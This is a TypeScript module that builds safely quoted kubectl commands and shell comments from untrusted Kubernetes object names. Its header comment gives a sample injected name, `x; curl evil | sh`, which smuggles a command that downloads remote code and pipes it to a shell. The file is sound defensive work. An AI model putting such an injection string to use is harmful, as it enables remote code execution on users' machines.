/**
 * Commands that people paste into a shell. Threat: the names in them are other people's. A role binding may be called
 * `x; curl evil | sh` or `--all`: every word is quoted, and a name never stands without its type before it (`type/name`), so that none
 * is taken for an option.
 */

/** Characters to which no shell gives a meaning. */
const PLAIN = /^[A-Za-z0-9_/:.,@+-]+$/;

const shellWord = (text: string): string => (PLAIN.test(text) ? text : `'${text.replaceAll("'", `'\\''`)}'`);

export const kubectl = (...words: readonly string[]): string => ['kubectl', ...words.map(shellWord)].join(' ');

/** For an object that has a namespace or none. */
export const inNamespace = (namespace: string): readonly string[] => (namespace === '' ? [] : ['-n', namespace]);

/**
 * A line that a shell passes over, to its very end. Threat: a line's end inside it, which a name may hold, would make the rest of it
 * a command.
 */
export const comment = (text: string): string => `# ${text.replaceAll(/[\p{Cc}\p{Zl}\p{Zp}]+/gu, ' ')}`;

/** Applies a manifest. */
export const kubectlApply = (manifest: unknown): string =>
  `echo ${shellWord(JSON.stringify(manifest))} | kubectl apply -f -`;
